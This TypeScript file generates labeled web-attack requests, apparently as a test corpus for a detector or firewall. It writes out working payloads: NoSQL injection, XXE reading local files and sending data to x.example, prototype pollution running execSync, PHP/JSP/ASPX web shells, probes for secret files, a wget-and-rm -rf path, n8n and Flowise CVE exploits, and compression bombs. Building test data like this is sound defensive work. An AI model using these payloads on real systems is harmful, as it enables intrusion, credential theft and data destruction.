/** Attacks that are whole requests: the first part. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import type { Whole } from './attack-set.ts';
import type { Chance } from './chance.ts';
import { multipart } from './visit.ts';
import { type WholeWriter, wholeWriter } from './whole.ts';

const form = 'application/x-www-form-urlencoded';

/** Every whole attack of the first part. */
export function seenWholes(chance: Chance): readonly Whole[] {
  const to = wholeWriter(chance);
  for (const write of [nosqli, xxe, prototype, upload, scanner, advisory, protocol]) write(to, chance);
  return to.all;
}

function nosqli(to: WholeWriter): void {
  to.as({ class: 'nosqli', technique: 'operator in a name' });
  for (const name of ['user', 'username', 'password', 'token', 'pin', 'email']) {
    for (const [operator, value] of [
      ['$ne', ''],
      ['$gt', ''],
      ['$regex', '^a.*'],
      ['$exists', 'true'],
      ['$nin][', '1'],
      ['$where', 'sleep(3000)'],
    ] as const) {
      to.get(`/login?${name}[${operator}]=${encodeURIComponent(value)}&go=1`);
      to.send('/login', form, `${encodeURIComponent(`${name}[${operator}]`)}=${encodeURIComponent(value)}&remember=1`);
      to.json('/api/login', { [name]: { [operator.replace('][', '')]: value }, keep: true });
    }
  }
  to.as({ class: 'nosqli', technique: 'operators in JSON' });
  for (const body of [
    { user: 'admin', password: { $ne: null } },
    { q: { $or: [{ a: 1 }, { b: { $exists: true } }] } },
    { filter: { $where: 'this.password.length > 0' } },
    { user: { $in: ['admin', 'root'] }, password: { $gt: '' } },
    { sort: { $function: { body: 'function(){return 1}', args: [], lang: 'js' } } },
  ])
    for (const path of ['/api/login', '/api/v2/find', '/auth', '/rest/session']) to.json(path, body);
}

const xml = (declaration: string, inner: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${declaration}>\n<root>${inner}</root>`;

function xxe(to: WholeWriter, chance: Chance): void {
  const targets = [
    'file:///etc/passwd',
    'file:///c:/windows/win.ini',
    'http://169.254.169.254/latest/meta-data/',
    'http://x.example/a.dtd',
    'php://filter/convert.base64-encode/resource=index.php',
    'expect://id',
    'jar:http://x.example/a.jar!/b',
    'ftp://x.example/a',
  ];
  const docs = targets.flatMap(target => [
    xml(`a [<!ENTITY x SYSTEM "${target}">]`, '&x;'),
    xml(`root [<!ELEMENT root ANY><!ENTITY  xxe PUBLIC "-//A//B" "${target}">]`, '<name>&xxe;</name>'),
    xml(`r [<!ENTITY % p SYSTEM '${target}'> %p;]`, 'x'),
    xml(`r SYSTEM "${target}"`, 'x'),
    xml(
      `foo [<!ENTITY a "b"><!ENTITY % d SYSTEM "${target}"><!ENTITY % e "<!ENTITY &#37; f SYSTEM 'http://x.example/?%d;'>">%e;%f;]`,
      '&a;',
    ),
  ]);
  docs.push(
    xml(
      'z [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]',
      '&d;',
    ),
  );
  for (const doc of docs) {
    to.as({ class: 'xxe', technique: 'body' });
    to.send('/api/import', 'application/xml', doc);
    to.send(
      '/ws/service',
      'text/xml; charset=utf-8',
      doc
        .replace('<root>', '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>')
        .replace('</root>', '</soap:Body></soap:Envelope>'),
    );
    to.as({ class: 'xxe', technique: 'in a field' });
    to.send('/convert', form, `format=xml&data=${encodeURIComponent(doc)}`);
    to.json('/api/convert', { type: 'xml', data: doc });
    const { type, body } = multipart(
      [{ name: 'file', value: doc, filename: chance.pick(['a.xml', 'picture.svg', 'feed.rss']), type: 'text/xml' }],
      chance,
    );
    to.send('/upload', type, body);
    to.as({ class: 'xxe', technique: 'coded' });
    to.send('/saml/acs', form, `RelayState=a&SAMLResponse=${encodeURIComponent(Buffer.from(doc).toString('base64'))}`);
  }
}

function prototype(to: WholeWriter): void {
  const props = [
    ['isAdmin', 'true'],
    ['polluted', '1'],
    ['shell', '/bin/sh'],
    ['NODE_OPTIONS', '--require /proc/self/environ'],
    ['outputFunctionName', "x;process.mainModule.require('child_process').execSync('id');x"],
    ['role', 'admin'],
    ['toString', 'x'],
    ['status', '500'],
  ] as const;
  for (const [name, value] of props) {
    to.as({ class: 'prototype', technique: 'JSON key' });
    to.json('/api/settings', `{"__proto__":{"${name}":${JSON.stringify(value)}}}`);
    to.json('/api/merge', { a: 1, constructor: { prototype: { [name]: value } } });
    to.json('/api/profile', `{"user":{"name":"x","__proto__":{"${name}":${JSON.stringify(value)}}}}`);
    to.json('/api/list', `[{"id":1},{"\\u005f_proto__":{"${name}":1}}]`);
    to.json('/api/set', { path: `__proto__.${name}`, value });
    to.json('/api/set', { [`constructor.prototype.${name}`]: value });
    to.as({ class: 'prototype', technique: 'parameter name' });
    const coded = encodeURIComponent(value);
    for (const key of [
      `__proto__[${name}]`,
      `constructor[prototype][${name}]`,
      `a[__proto__][${name}]`,
      `__proto__.${name}`,
      `x[constructor][prototype][${name}]`,
    ]) {
      to.get(`/search?q=a&${key}=${coded}`);
      to.get(`/search?${encodeURIComponent(key)}=${coded}`);
      to.send('/profile', form, `${encodeURIComponent(key)}=${coded}`);
    }
    to.as({ class: 'prototype', technique: 'XML', site: 'n8n' });
    to.send('/webhook/orders', 'application/xml', `<a><__proto__><${name}>1</${name}></__proto__></a>`);
    to.as({ class: 'prototype', technique: 'webhook', site: 'n8n' });
    to.json('/webhook/orders', `{"order":{"items":[{"__proto__":{"${name}":"x"}}]}}`);
  }
}

function upload(to: WholeWriter, chance: Chance): void {
  const php = [
    '<?php system($_GET["c"]); ?>',
    '<?=`$_GET[0]`?>',
    '<?php eval(base64_decode($_POST["x"]));',
    'GIF89a;<?php passthru($_REQUEST["c"]);?>',
    "<script language='php'>phpinfo();</script>",
  ];
  const other: Readonly<Record<string, string>> = {
    'cmd.jsp': '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    'x.aspx': '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); %>',
    'a.asp': '<% eval request("c") %>',
    '.htaccess': 'AddType application/x-httpd-php .jpg',
    'web.config':
      '<configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="x" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll"/></handlers></system.webServer></configuration>',
    'x.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>',
    'a.cgi': '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n"; system($ENV{QUERY_STRING});',
    'x.py': 'import os\nos.system("id")',
    '../../../../var/www/html/x.txt': 'hello',
    '..\\..\\web\\a.txt': 'hello',
    '/etc/cron.d/x': '* * * * * root id',
    'a.phar': '<?php __HALT_COMPILER(); ?>',
    '.user.ini': 'auto_prepend_file=x.jpg',
  };
  const put = (filename: string, value: string, type: string): void => {
    for (const [path, name] of [
      ['/upload', 'file'],
      ['/profile/avatar', 'avatar'],
      ['/api/files', 'files[]'],
    ] as const) {
      const made = multipart(
        [
          { name: 'title', value: 'x' },
          { name, value, filename, type },
        ],
        chance,
      );
      to.send(path, made.type, made.body);
    }
  };
  to.as({ class: 'upload', technique: 'script with its own name' });
  for (const body of php)
    for (const name of ['shell.php', 'a.phtml', 'x.php5', 'cmd.pHp']) put(name, body, 'application/x-php');
  to.as({ class: 'upload', technique: 'script under another name' });
  for (const body of php)
    for (const name of ['x.php.jpg', 'a.jpg.php', 'x.php.', 'shell.php%00.png', 'a.php;.jpg', 'photo.jpg'])
      put(name, body, 'image/jpeg');
  to.as({ class: 'upload', technique: 'other kinds' });
  for (const [name, body] of Object.entries(other)) put(name, body, 'application/octet-stream');
}

function scanner(to: WholeWriter, chance: Chance): void {
  to.as({ class: 'scanner', technique: 'tool by name' });
  for (const agent of [
    'sqlmap/1.8#stable (https://sqlmap.org)',
    'Nikto/2.5.0',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
    'gobuster/3.6',
    'DirBuster-1.0-RC1 (http://www.owasp.org)',
    'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'ffuf/2.1.0',
    'w3af.org',
    'Arachni/v1.6',
    'Acunetix-Product',
    'OpenVAS-VT 22',
    'zgrab/0.x',
    'feroxbuster/2.10.1',
  ])
    for (const path of ['/', '/index.php?id=1', '/robots.txt', `/${chance.word(8)}`, '/admin/login'])
      to.get(path, { 'user-agent': agent });
  to.as({ class: 'scanner', technique: 'files nobody links' });
  for (const path of [
    '/.env',
    '/.git/config',
    '/.git/HEAD',
    '/.svn/entries',
    '/.aws/credentials',
    '/.ssh/id_rsa',
    '/.DS_Store',
    '/.htpasswd',
    '/wp-config.php.bak',
    '/config.php~',
    '/backup.sql',
    '/dump.sql.gz',
    '/db.sqlite3',
    '/phpinfo.php',
    '/server-status',
    '/actuator/env',
    '/actuator/heapdump',
    '/.vscode/sftp.json',
    '/docker-compose.yml',
    '/id_rsa',
    '/web.config',
    '/WEB-INF/web.xml',
    '/.npmrc',
    '/.env.production',
    '/config/database.yml',
    '/storage/logs/laravel.log',
    '/composer.lock',
    '/.bash_history',
  ])
    for (const prefix of ['', '/app', '/api']) to.get(`${prefix}${path}`);
  to.as({ class: 'scanner', technique: 'known holes' });
  for (const path of [
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/cgi-bin/test-cgi',
    '/HNAP1/',
    '/boaform/admin/formLogin',
    '/manager/html',
    '/solr/admin/cores?wt=json',
    '/_ignition/execute-solution',
    '/cgi-bin/luci/;stok=/locale',
    '/shell?cd+/tmp;rm+-rf+*;wget+http://10.0.0.1/a',
    '/phpmyadmin/scripts/setup.php',
    '/GponForm/diag_Form?images/',
    '/struts2-showcase/index.action',
    '/?XDEBUG_SESSION_START=phpstorm',
    '/owa/auth/x.js',
    '/console/css/%252e%252e%252fconsole.portal',
    '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id',
  ])
    to.get(path);
}

function advisory(to: WholeWriter, chance: Chance): void {
  const id = (): string => chance.uuid();
  to.as({ class: 'advisory', technique: 'CVE-2026-21858', site: 'n8n' });
  for (const file of ['/etc/passwd', '/home/node/.n8n/config', '/home/node/.n8n/database.sqlite', '/proc/self/environ'])
    for (const path of ['/form/', '/form-test/', '/webhook/', '/form-waiting/'])
      to.json(`${path}${id()}`, {
        data: {},
        files: {
          [chance.pick(['f', 'field-0', 'upload'])]: {
            filepath: file,
            originalFilename: 'x.txt',
            mimetype: 'text/plain',
            size: 1,
          },
        },
      });
  to.as({ class: 'advisory', technique: 'CVE-2026-27493', site: 'n8n' });
  for (const text of [
    '={{ $env }}',
    "={{ require('child_process').execSync('id') }}",
    '{{ $json.constructor.constructor("return process")() }}',
    '={{ process.mainModule }}',
  ])
    for (const path of ['/form/', '/form-waiting/'])
      to.send(`${path}${id()}`, form, `field-0=${encodeURIComponent(text)}&field-1=x`);
  const workflow = (node: Record<string, unknown>): Record<string, unknown> => ({
    name: 'x',
    nodes: [{ id: id(), name: 'N', position: [0, 0], typeVersion: 1, ...node }],
    connections: {},
    settings: {},
  });
  to.as({ class: 'advisory', technique: 'CVE-2025-68613 and kin', site: 'n8n', who: 'editor' });
  for (const value of [
    "={{ (function(){ return this.process.mainModule.require('child_process').execSync('id').toString() })() }}",
    "={{ ''.constructor.constructor('return process')().env }}",
    '={{ []["constructor"]["constructor"]("return this.process.mainModule.require(`fs`)")() }}',
    '={{ Object.getPrototypeOf(async function(){}).constructor("return process")() }}',
    "={{ $json.__proto__.constructor.constructor('return process.binding')() }}",
    "={{ [].filter[`constr`+`uctor`]('return process')() }}",
  ])
    for (const [method, path] of [
      ['POST', '/rest/workflows'],
      ['PATCH', `/rest/workflows/${chance.word(16)}`],
      ['POST', '/api/v1/workflows'],
    ] as const)
      to.send(
        path,
        'application/json',
        JSON.stringify(
          workflow({ type: 'n8n-nodes-base.set', parameters: { values: { string: [{ name: 'a', value }] } } }),
        ),
        { method },
      );
  to.as({ class: 'advisory', technique: 'workflow prototype keys', site: 'n8n', who: 'editor' });
  for (const key of ['__proto__', 'constructor'])
    to.json(
      '/rest/workflows',
      `{"name":"x","nodes":[{"name":"X","type":"n8n-nodes-base.xml","parameters":{"${key}":{"prototype":{"shell":"x"},"polluted":1}}}],"connections":{}}`,
    );
  to.as({ class: 'advisory', technique: 'CVE-2026-56350', site: 'n8n', who: 'editor' });
  to.send('/rest/me/settings', 'application/json', JSON.stringify({ allowSSOManualLogin: true, userActivated: true }), {
    method: 'PATCH',
  });
  to.as({ class: 'advisory', technique: 'CVE-2025-59528', site: 'flowise' });
  for (const config of [
    '({x:(function(){const cp=process.mainModule.require("child_process");cp.execSync("id");return 1})()})',
    '{"a":process.mainModule.require("fs").readFileSync("/etc/passwd")}',
    '(function(){return process.env})()',
    'Function("return process")().mainModule.require("child_process").execSync("id")',
  ])
    for (const path of ['/api/v1/node-load-method/customMCP', '/API/v1/node-load-method/custommcp'])
      for (const method of ['listActions', 'listTools'])
        to.json(path, { loadMethod: method, inputs: { mcpServerConfig: config } }, { 'x-request-from': 'internal' });
  to.as({ class: 'advisory', technique: 'CVE-2025-8943', site: 'flowise' });
  for (const config of [
    { command: 'sh', args: ['-c', 'id'] },
    { command: 'npx', args: ['-y', '-c', 'id'] },
    { command: 'node', args: ['-e', "require('child_process').execSync('id')"] },
    { command: 'docker', args: ['run', '-v', '/:/m', 'alpine'] },
  ])
    for (const wrap of [config, JSON.stringify(config)])
      to.json(
        '/api/v1/node-load-method/customMCP',
        { loadMethod: 'listActions', inputs: { mcpServerConfig: wrap } },
        { 'x-request-from': 'internal' },
      );
  to.as({ class: 'advisory', technique: 'CVE-2025-26319', site: 'flowise' });
  for (const path of ['..%2f..%2froot%2f/.flowise', '..%2f..%2f..%2fetc/x', '%2e%2e%2f%2e%2e%2fa/b']) {
    const made = multipart(
      [{ name: 'files', value: '{"k":1}', filename: 'api.json', type: 'application/json' }],
      chance,
    );
    to.send(`/api/v1/attachments/${path}`, made.type, made.body);
  }
  to.as({ class: 'advisory', technique: 'CVE-2024-36420, CVE-2025-71324', site: 'flowise' });
  for (const dots of [
    '../../../../etc/passwd',
    '../../../root/.flowise/encryption.key',
    '..\\..\\windows\\win.ini',
    '../../../../proc/self/environ',
  ]) {
    to.json('/api/v1/openai-assistants-file', { fileName: dots });
    to.get(`/api/v1/get-upload-file?chatflowId=${encodeURIComponent(dots)}&chatId=x&fileName=passwd`);
    to.get(`/api/v1/openai-assistants-file/download?chatId=..%2f..&fileName=${encodeURIComponent(dots)}`);
  }
  to.as({ class: 'advisory', technique: 'CVE-2024-8181, CVE-2024-31621', site: 'flowise' });
  for (const path of [
    '/api/v1/apikey?/api/v1/ping',
    '/api/v1/credentials?x=/api/v1/prediction/',
    '/API/V1/credentials',
    '/Api/V1/apikey',
  ])
    to.get(path);
  to.as({ class: 'advisory', technique: 'CVE-2025-58434', site: 'flowise' });
  for (const mail of ['admin@example.com', 'owner@example.com'])
    to.json('/api/v1/account/forgot-password', { user: { email: mail } });
  for (const token of ['', null])
    to.json('/api/v1/account/reset-password', { user: { email: 'a@example.com', tempToken: token, password: 'x' } });
  to.as({ class: 'advisory', technique: 'CVE-2026-46442', site: 'flowise' });
  for (const code of [
    "return process.mainModule.require('child_process').execSync('id').toString()",
    "const e=new Error();e.name=Symbol();return e.constructor.constructor('return process')()",
    'return this.constructor.constructor("return process.env")()',
  ])
    to.json('/api/v1/node-custom-function', { javascriptFunction: code });
}

function protocol(to: WholeWriter, chance: Chance): void {
  const sqli = "1' union select password from users-- ";
  const script = '<script>alert(document.cookie)</script>';
  for (const bad of [sqli, script, '; cat /etc/passwd', '../../../../etc/passwd']) {
    const text = JSON.stringify(bad);
    to.as({ class: 'protocol', technique: 'JSON readings' });
    for (const body of [
      `{"q":"a","q":${text}}`,
      `{"q":${text},"q":"a"}`,
      `{/* c */"q":${text}}`,
      `{'q':${text}}`,
      `{"q":NaN,"a":${text}}`,
      `\ufeff{"q":${text}}`,
      `{"q":${text},}`,
      `{"a":${JSON.stringify(JSON.stringify({ b: JSON.stringify({ q: bad }) }))}}`,
    ])
      to.json('/api/find', body);
    to.as({ class: 'protocol', technique: 'charset' });
    to.send('/api/find', 'application/json; charset=utf-16le', Buffer.from(`{"q":${text}}`, 'utf16le'));
    to.send('/find', `${form}; charset=ibm037`, `q=${encodeURIComponent(bad)}`);
    to.send(
      '/find',
      'text/html; charset=utf-7',
      bad.replace(/</g, '+ADw-').replace(/>/g, '+AD4-').replace(/'/g, '+ACc-'),
    );
    to.as({ class: 'protocol', technique: 'coding' });
    to.send('/api/find', 'application/json', gzipSync(`{"q":${text}}`), { headers: { 'content-encoding': 'gzip' } });
    to.send('/api/find', 'application/json', gzipSync(gzipSync(`{"q":${text}}`)), {
      headers: { 'content-encoding': 'gzip, gzip' },
    });
    to.send('/find', form, deflateRawSync(`q=${encodeURIComponent(bad)}`), {
      headers: { 'content-encoding': 'deflate' },
    });
    to.as({ class: 'protocol', technique: 'multipart' });
    const b = 'X1b2';
    const part = (head: string, value: string): string => `--${b}\r\n${head}\r\n\r\n${value}\r\n`;
    const named = 'Content-Disposition: form-data; name="q"';
    for (const [type, body] of [
      [`multipart/form-data; boundary=${b}; boundary=other`, `${part(named, bad)}--${b}--\r\n`],
      [
        `multipart/form-data; boundary="${b}"`,
        `--${b}\r\n${named}; filename="a"; name="z"\r\n\r\n${bad}\r\n--${b}--\r\n`,
      ],
      [`multipart/form-data; boundary=${b}`, `--${b}\n${named}\n\n${bad}\n--${b}--\n`],
      [`multipart/form-data; boundary=${b}`, `${part(named, 'a')}--${b}--\r\n${part(named, bad)}--${b}--\r\n`],
      [`multipart/form-data; boundary=${b}`, part(named, bad)],
      [
        `multipart/form-data; boundary=${b}`,
        part(`${named}\r\nContent-Transfer-Encoding: base64`, Buffer.from(bad).toString('base64')) + `--${b}--\r\n`,
      ],
      [
        `multipart/form-data; boundary=${b}`,
        part("Content-Disposition: form-data; name*=utf-8''q; name=a", bad) + `--${b}--\r\n`,
      ],
      [`multipart/form-data; boundary=${b}`, part(' Content-Disposition : form-data; name=q', bad) + `--${b}--\r\n`],
      ['multipart/form-data', `${part(named, bad)}--${b}--\r\n`],
    ] as const)
      to.send('/find', type, body);
    to.as({ class: 'protocol', technique: 'target' });
    const wide = Array.from(bad)
      .map(char => `%u${char.charCodeAt(0).toString(16).padStart(4, '0')}`)
      .join('');
    const overlong = [...Buffer.from(bad)]
      .map(byte =>
        byte === 0x2f || byte === 0x3c || byte === 0x27
          ? `%c0%${(0x80 | (byte & 0x3f)).toString(16)}`
          : `%${byte.toString(16)}`,
      )
      .join('');
    for (const target of [
      `/find?q=${wide}`,
      `/find?q=${overlong}`,
      `/find;q=${encodeURIComponent(bad)}`,
      `/find?q=a%00${encodeURIComponent(bad)}`,
      `/find?q=${encodeURIComponent(encodeURIComponent(encodeURIComponent(bad)))}`,
      `/find?q=a&q=${encodeURIComponent(bad)}`,
      `/find?q%5b%5d=${encodeURIComponent(bad)}`,
      `/find?a;q=${encodeURIComponent(bad)}`,
    ])
      to.get(target);
    to.as({ class: 'protocol', technique: 'other type' });
    to.send('/find', 'application/json', `q=${encodeURIComponent(bad)}`);
    to.send('/find', form, `{"q":${text}}`);
    to.send('/find', 'text/plain', `q=${bad}`);
    to.send('/find', 'application/x-www-form-urlencoded, application/json', `q=${encodeURIComponent(bad)}`);
    to.get('/find', { 'x-http-method-override': 'PUT', 'x-original-url': `/admin?q=${encodeURIComponent(bad)}` });
    to.send('/find', 'application/xml', `<?xml version="1.0"?><q><![CDATA[${bad}]]></q>`);
    to.send(
      '/find',
      'application/xml',
      Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?><q>${bad.replace(/</g, '&lt;')}</q>`, 'utf16le'),
    );
  }
  to.as({ class: 'protocol', technique: 'bomb' });
  to.send('/api/find', 'application/json', gzipSync(Buffer.alloc(24 * 1024 * 1024, 0x20), { level: 9 }), {
    headers: { 'content-encoding': 'gzip' },
  });
  to.json('/api/find', `${'['.repeat(5000)}1${']'.repeat(5000)}`);
  to.json('/api/find', `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`);
  void chance;
}
